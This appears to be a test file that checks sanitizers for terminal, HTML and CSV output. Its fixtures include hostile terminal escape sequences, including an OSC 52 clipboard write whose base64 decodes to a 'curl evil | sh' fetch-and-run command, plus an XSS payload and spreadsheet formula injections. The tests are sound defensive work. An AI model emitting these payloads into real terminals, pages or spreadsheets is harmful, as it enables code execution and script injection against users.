import { describe, expect, it } from 'vitest';
import { forCsv, forHtml, forTerminal } from './untrusted.js';

describe('untrusted text', () => {
  it('leaves no raw control bytes for the terminal', () => {
    const hostile =
      'ua\u001b[2J\u001b]8;;http://x\u0007link\u001b]8;;\u0007\r\nnext\u009b31m\u202eevil\u0000';
    const safe = forTerminal(hostile);
    // eslint-disable-next-line no-control-regex -- asserting their absence
    expect(safe).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202e]/);
    expect(safe).toContain('ua');
    expect(safe).toContain('next');
  });

  it.each([
    ['LRE', '\u202a'],
    ['RLE', '\u202b'],
    ['PDF', '\u202c'],
    ['LRO', '\u202d'],
    ['RLO', '\u202e'],
    ['LRI', '\u2066'],
    ['RLI', '\u2067'],
    ['FSI', '\u2068'],
    ['PDI', '\u2069'],
    ['line separator', '\u2028'],
    ['paragraph separator', '\u2029'],
    ['zero-width space', '\u200b'],
    ['word joiner', '\u2060'],
    ['byte-order mark', '\ufeff'],
  ])('spells out the %s (U+%s) instead of letting it act', (_, c) => {
    const code = c.charCodeAt(0).toString(16).padStart(4, '0');
    expect(forTerminal(`admin${c}-role`)).toBe(`admin\\u${code}-role`);
  });

  it.each([
    ['an OSC 8 hyperlink ended by ST', '\u001b]8;;https://evil.example\u001b\\click\u001b]8;;\u001b\\'],
    ['an OSC 0 window title ended by BEL', '\u001b]0;pwned\u0007'],
    ['an OSC 52 clipboard write', '\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007'],
    ['a C1 OSC ended by C1 ST', '\u009d0;pwned\u009c'],
    ['an unterminated OSC', '\u001b]0;pwned'],
  ])('leaves no working escape of %s', (_, seq) => {
    const safe = forTerminal(`ua ${seq} end`);
    // eslint-disable-next-line no-control-regex -- asserting their absence
    expect(safe).not.toMatch(/[\u0000-\u001f\u007f-\u009f]/);
    expect(safe).toMatch(/^ua .* end$/);
  });

  it('keeps ordinary text unchanged', () => {
    expect(forTerminal('aws-cli/2.9.19 Python/3.11.2 Linux/6.1 exe/x86_64 — café')).toBe(
      'aws-cli/2.9.19 Python/3.11.2 Linux/6.1 exe/x86_64 — café',
    );
  });

  it('escapes HTML', () => {
    expect(forHtml('"><img src=x onerror=alert(1)><script>')).toBe(
      '&quot;&gt;&lt;img src=x onerror=alert(1)&gt;&lt;script&gt;',
    );
  });

  it('defuses spreadsheet formulas in CSV', () => {
    expect(forCsv('=HYPERLINK("http://x","click")')).toBe(`"'=HYPERLINK(""http://x"",""click"")"`);
    expect(forCsv('+1')).toBe(`"'+1"`);
    expect(forCsv('@SUM(A1)')).toBe(`"'@SUM(A1)"`);
    expect(forCsv('plain')).toBe('plain');
    expect(forCsv('a,b')).toBe('"a,b"');
  });
});
